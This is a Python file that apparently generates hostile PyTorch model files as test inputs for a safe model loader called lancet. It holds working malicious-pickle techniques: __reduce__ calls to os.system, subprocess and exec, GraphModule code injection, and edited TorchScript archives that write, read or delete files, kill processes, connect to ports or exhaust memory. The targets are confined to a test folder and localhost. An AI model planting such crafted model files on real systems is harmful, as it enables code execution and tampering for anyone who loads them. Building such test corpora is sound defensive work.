# SPDX-License-Identifier: GPL-3.0-or-later
"""Models that try to write, read, connect, execute, load, signal, and fill memory, in every format that lancet opens.

`make(folder, target)` writes them and gives a list of `Hostile`. A model is data here: nothing of it runs while it is made.
"""

import dataclasses
import io
import json
import os
import pathlib
import re
import subprocess
import zipfile

import torch
from torch.fx.graph_module import reduce_graph_module

IMPORTS = "\n".join(
    f"import {name}" for name in ("builtins ctypes importlib numpy os pathlib shutil socket subprocess sys tempfile torch "
                                  "urllib.request").split()) + "\nfrom torch import device\n"


@dataclasses.dataclass
class Target:
    """What the models aim at, all of it in a folder made for them."""

    profile: pathlib.Path  # exists; must stay as it is
    fresh: pathlib.Path  # does not exist; must not appear
    secret: pathlib.Path  # must not be read
    port: int  # of a server on this machine; nobody may connect


@dataclasses.dataclass
class Hostile:
    name: str
    path: pathlib.Path
    kind: str  # what it tries: write, read, exec, connect, load, memory, time


def attacks(t):
    """name: (kind, lines of forward(self, x) in Python)."""
    p, n, s = repr(str(t.profile)), repr(str(t.fresh)), repr(str(t.secret))
    return {
        # constants that PyTorch computes on loading
        "constant": ("write", f"a = torch.from_file({p}, True, 4); y = a.copy_(x)"),
        "constant_filled": ("write", f"a = torch.from_file({p}, True, 4).fill_(7.0); y = x + a"),
        "constant_new": ("write", f"a = torch.from_file({n}, shared = True, size = 4).fill_(1.0); y = x + a"),
        "constant_operator": ("write", f"a = torch.ops.aten.from_file.default({p}, True, 4); y = a.mul_(x)"),
        "constant_read": ("read", f"a = torch.from_file({s}, False, 4); y = x + a"),
        "constant_bytes": ("read", f"a = torch.from_file({s}, False, 16, dtype = torch.uint8); y = x + a.sum()"),
        # nodes
        "from_file": ("write", f"n = x.size(0); a = torch.from_file({p}, True, n); y = a.copy_(x)"),
        "from_file_keywords": ("write", f"n = x.size(0); a = torch.from_file(filename = {n}, shared = True, size = n); y = a.add_(1.0)"),
        "from_file_operator": ("write", f"n = x.size(0); a = torch.ops.aten.from_file.default({p}, True, n); y = a.copy_(x)"),
        "from_file_packet": ("write", f"n = x.size(0); a = torch.ops.aten.from_file({p}, True, n); y = a.copy_(x)"),
        "from_file_out": ("write", f"n = x.size(0); y = torch.ops.aten.from_file.out({p}, True, n, out = x)"),
        "from_file_inner": ("write", f"n = x.size(0); a = torch._C._VariableFunctions.from_file({p}, True, n); y = a.copy_(x)"),
        "from_file_vf": ("write", f"n = x.size(0); a = torch._VF.from_file({p}, True, n); y = a.copy_(x)"),
        "storage": ("write", f"n = x.size(0); a = torch.UntypedStorage.from_file({p}, True, n); y = x"),
        "float_storage": ("write", f"n = x.size(0); a = torch.FloatStorage.from_file({p}, True, n); y = x"),
        "save": ("write", f"s = torch.save(x, {n}); y = x + 1"),
        "save_keywords": ("write", f"s = torch.save(obj = x, f = {p}); y = x + 1"),
        "jit_save": ("write", f"s = torch.jit.save(x, {n}); y = x + 1"),
        "tofile": ("write", f"a = x.numpy(); s = a.tofile({n}); y = x + 1"),
        "dump": ("write", f"a = x.numpy(); s = a.dump({n}); y = x + 1"),
        "numpy_save": ("write", f"s = numpy.save({n}, x); y = x + 1"),
        "memmap": ("write", f"s = numpy.memmap({p}, 'float32', 'r+', 0, x.size(0)); y = x + 1"),
        "open": ("write", f"f = open({n}, 'w'); s = f.write('x'); y = x + 1"),
        "open_proxied": ("write", f"f = builtins.open({p}, 'w', x); y = x + 1"),
        "write_text": ("write", f"f = pathlib.Path({n}); s = f.write_text('x'); y = x + 1"),
        "remove": ("write", f"s = os.remove({p}); y = x + 1"),
        "rename": ("write", f"s = os.rename({p}, {n}); y = x + 1"),
        "symlink": ("write", f"s = os.symlink({p}, {n}); y = x + 1"),
        "mkdir": ("write", f"s = os.mkdir({n}); y = x + 1"),
        "rmtree": ("write", f"s = shutil.rmtree({p}, x); y = x + 1"),
        "copy": ("write", f"s = shutil.copy({p}, {n}); y = x + 1"),
        "temporary": ("write", f"s = tempfile.mkstemp('a', 'b', {repr(str(t.fresh.parent))}); y = x + 1"),
        "trace_export": ("write", f"p = torch.autograd.profiler.profile(); s = p.export_chrome_trace({n}); y = x + 1"),
        "load": ("read", f"a = torch.load({s}, x); y = x + 1"),
        "load_constant": ("read", f"a = torch.load({s}); y = x + a"),
        "jit_load": ("read", f"a = torch.jit.load({s}); y = x + 1"),
        "numpy_load": ("read", f"a = numpy.fromfile({s}, numpy.float32); y = x + 1"),
        "read_text": ("read", f"f = pathlib.Path({s}); a = f.read_text(); y = x + 1"),
        "debugprims": ("read", f"a = torch.ops.debugprims.load_tensor.default({s}, [4], [1]); y = x + a"),
        # other programs, code and machines
        "system": ("exec", f"s = os.system('touch ' + {n}); y = x + 1"),
        "system_proxied": ("exec", f"s = os.system(x); y = x + 1"),
        "subprocess": ("exec", f"s = subprocess.run(['touch', {n}]); y = x + 1"),
        "exec_text": ("exec", "s = exec('import os; os.system(\"touch ' + " + n + " + '\")'); y = x + 1"),
        "eval_text": ("exec", "s = eval('__import__(\"os\").system(\"touch ' + " + n + " + '\")'); y = x + 1"),
        "import": ("exec", "m = importlib.import_module('os'); s = m.system('true'); y = x + 1"),
        "kill": ("exec", "s = os.kill(os.getppid(), 15); y = x + 1"),
        "exit": ("exec", "s = os._exit(0); y = x + 1"),
        "fork": ("exec", "s = os.fork(); y = x + 1"),
        "address": ("exec", "s = ctypes.string_at(0); y = x + 1"),
        "library": ("load", f"s = torch.ops.load_library({n}); y = x + 1"),
        "class_library": ("load", f"s = torch.classes.load_library({n}); y = x + 1"),
        "hub": ("load", f"s = torch.hub.load({n}, 'net', source = 'local'); y = x + 1"),
        "inline": ("load", "s = torch.utils.cpp_extension.load_inline('a', 'int f(){return 1;}'); y = x + 1"),
        "package": ("load", f"s = torch._inductor.aoti_load_package({n}); y = x + 1"),
        "connect": ("connect", f"s = socket.create_connection(('127.0.0.1', {t.port})); y = x + 1"),
        "download": ("connect", f"s = torch.hub.download_url_to_file('http://127.0.0.1:{t.port}/', {n}); y = x + 1"),
        "open_url": ("connect", f"s = urllib.request.urlopen('http://127.0.0.1:{t.port}/'); y = x + 1"),
        "group": ("connect", f"s = torch.distributed.init_process_group('gloo', 'tcp://127.0.0.1:{t.port}', rank = 1, world_size = 2); y = x + 1"),
        # machines that are full
        "memory": ("memory", "a = torch.zeros(1 << 36); y = x + a.sum()"),
        "memory_proxied": ("memory", "a = x.repeat(1 << 34); y = a + a"),
        "memory_steps": ("memory", "a = x.repeat(1 << 24); " + "a = torch.cat([a, a]); " * 24 + "y = a"),
        "threads": ("memory", "s = torch.set_num_threads(1 << 20); y = x + 1"),
    }


#: The same in TorchScript's own text; `torch.save` there is aten::save.
def script_attacks(t):
    p, n, s = (json.dumps(str(path)) for path in (t.profile, t.fresh, t.secret))
    return {
        "from_file": ("write", f"a = torch.from_file({p}, True, 4)\n    return torch.copy_(a, x)"),
        "from_file_new": ("write", f"a = torch.from_file({n}, True, 4)\n    return torch.fill_(a, 3.)"),
        "from_file_operator": ("write", f"a = ops.aten.from_file({p}, True, 4)\n    return torch.copy_(a, x)"),
        "from_file_out": ("write", f"return torch.from_file({p}, True, 4, out=x)"),
        "save": ("write", f"_0 = torch.save(x, {n})\n    return x"),
        "save_operator": ("write", f"_0 = ops.aten.save(x, {p})\n    return x"),
        "branch": ("write", f"if torch.gt(torch.dim(x), -1):\n      a = torch.from_file({p}, True, 4)\n      b = torch.copy_(a, x)\n    else:\n      b = x\n    return b"),
        "loop": ("write", f"b = x\n    for i in range(2):\n      a = torch.from_file({p}, True, 4)\n      b = torch.copy_(a, x)\n    return b"),
        "read": ("read", f"return torch.add(torch.from_file({s}, False, 4), x)"),
        "debugprims": ("read", f"return ops.debugprims.load_tensor({s}, [4], [1])"),
        "endless": ("time", "b = x\n    i = True\n    while i:\n      b = torch.add(b, 1)\n    return b"),
        "memory": ("memory", "b = x\n    i = True\n    while i:\n      b = torch.cat([b, b])\n    return b"),
        "library": ("load", f"_0 = ops.inductor._load({n})\n    return x"),
    }


# -- formats -------------------------------------------------------------------------------------------------------------


class Crafted:
    """Pickles as a GraphModule with any code."""

    def __init__(self, forward, imports=IMPORTS, **members):
        body = torch.fx.GraphModule({}, torch.fx.Graph()).__dict__.copy()
        del body["_graph"]
        body["_graphmodule_cls_name"] = "GraphModule"
        body["_code"] = forward
        body.update(members)
        self.body, self.imports = body, imports

    def __reduce__(self):
        return reduce_graph_module, (self.body, self.imports)


class Call:
    """Pickles as the call of a function, as malicious pickles do."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def forward_of(lines):
    return "\n\n\ndef forward(self, x):\n" + "".join(f"    {line.strip()}\n" for line in lines.split("; ")) + "    return y\n"


def source_of(lines):
    body = "".join(f"        {line.strip()}\n" for line in lines.split("; "))
    return f"{IMPORTS}\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n{body}        return y\n"


def constructor_of(lines):
    body = "".join(f"        {line.strip()}\n" for line in lines.split("; "))
    return (f"{IMPORTS}\n\nclass Net(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n        x = torch.zeros(4)\n"
            f"{body}        self.register_buffer('y', y)\n\n    def forward(self, x):\n        return x + self.y\n")


class Base(torch.nn.Module):
    """A module whose script is edited."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.relu()


class Stateful(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.y = torch.ones(4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.y

    @torch.jit.export
    def __getstate__(self):
        return (self.y, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.y = state[0]
        self.training = state[1]


def edited_script(module, edit):
    """The archive of a scripted module, its code edited."""
    data = io.BytesIO()
    torch.jit.save(torch.jit.script(module), data)
    out = io.BytesIO()
    with zipfile.ZipFile(data) as archive, zipfile.ZipFile(out, "w") as made:
        for item in archive.infolist():
            content = archive.read(item)
            if item.filename.endswith(".py"):
                content = edit(content.decode()).encode()
            made.writestr(item.filename, content)
    return out.getvalue()


def script_archive(body):
    def edit(code):
        edited = re.sub(r"return torch\.relu\(x\)", lambda _: body, code)
        assert edited != code, code
        return edited
    return edited_script(Base(), edit)


def state_archive(body):
    def edit(code):
        line = re.sub(r"\n    return .*|return .*", "", body).replace("x", "x", 1)
        at = code.index("def __setstate__")
        start = code.index("\n", code.index(") -> NoneType:", at)) + 1
        return code[:start] + "    x = torch.ones([4])\n    " + line + "\n" + code[start:]
    return edited_script(Stateful(), edit)


def exported(change):
    """An exported program whose model.json `change` has edited."""
    data = io.BytesIO()
    torch.export.save(torch.export.export(Base(), (torch.zeros(4),)), data)
    out = io.BytesIO()
    with zipfile.ZipFile(data) as archive, zipfile.ZipFile(out, "w") as made:
        for item in archive.infolist():
            content = archive.read(item)
            if item.filename.endswith("models/model.json"):
                content = json.dumps(change(json.loads(content))).encode()
            made.writestr(item.filename, content)
    return out.getvalue()


def exported_call(target, *strings):
    def change(model):
        node = model["graph_module"]["graph"]["nodes"][0]
        node["target"] = target
        node["inputs"] = [{"name": name, "arg": argument, "kind": 1} for name, argument in strings]
        return model
    return exported(change)


def program_calls(t):
    flag, four = {"as_bool": True}, {"as_int": 4}
    for name, path in (("profile", t.profile), ("fresh", t.fresh)):
        yield f"from_file_{name}", exported_call("torch.ops.aten.from_file.default", ("filename", {"as_string": str(path)}), ("shared", flag), ("size", four))
    yield "load_tensor", exported_call("torch.ops.debugprims.load_tensor.default", ("name", {"as_string": str(t.secret)}),
                                       ("size", {"as_ints": [4]}), ("stride", {"as_ints": [1]}))


def make(folder, t):
    out = []

    def add(name, kind, suffix, content):
        path = folder / f"{name}{suffix}"
        if isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, str):
            path.write_text(content)
        else:
            torch.save(content, path)
        out.append(Hostile(name + suffix, path, kind))

    for name, (kind, lines) in attacks(t).items():
        add(f"saved_{name}", kind, ".pt", Crafted(forward_of(lines)))
        add(f"source_{name}", kind, ".py", source_of(lines))
        add(f"made_{name}", kind, ".py", constructor_of(lines))
    for name in ("constant", "from_file", "save", "constant_read"):
        kind, lines = attacks(t)[name]
        saved = folder / f"folder_{name}"
        saved.mkdir()
        body = "".join(f"        {line.strip()}\n" for line in lines.split("; "))
        (saved / "module.py").write_text("import torch\nfrom torch.nn import *\nclass FxModule(torch.nn.Module):\n    def __init__(self):\n"
                                         f"        super().__init__()\n        self.load_state_dict(torch.load(r'{saved}/state_dict.pt'))\n\n"
                                         f"    def forward(self, x):\n{body}        return y\n")
        torch.save({}, saved / "state_dict.pt")
        (saved / "__init__.py").write_text("from .module import *\n")
        out.append(Hostile(saved.name, saved, kind))
    for name, function, args in (("system", os.system, (f"touch {t.fresh}",)), ("run", subprocess.Popen, (["touch", str(t.fresh)],)),
                                 ("exec", exec, (f"open({str(t.fresh)!r}, 'w')",)), ("remove", os.remove, (str(t.profile),)),
                                 ("from_file", torch.from_file, (str(t.fresh), True, 4))):
        add(f"pickle_{name}", "exec", ".pt", Call(function, *args))
        add(f"member_{name}", "exec", ".pt", Crafted(forward_of("a = self.thing; y = x + 1"), thing=Call(function, *args)))
    for name, (kind, body) in script_attacks(t).items():
        add(f"script_{name}", kind, ".ts", script_archive(body))
    for name in ("from_file", "save", "read"):
        kind, body = script_attacks(t)[name]
        add(f"state_{name}", kind, ".ts", state_archive(body))
    for name, content in program_calls(t):
        add(f"program_{name}", "write" if "from" in name else "read", ".pt2", content)
    return out
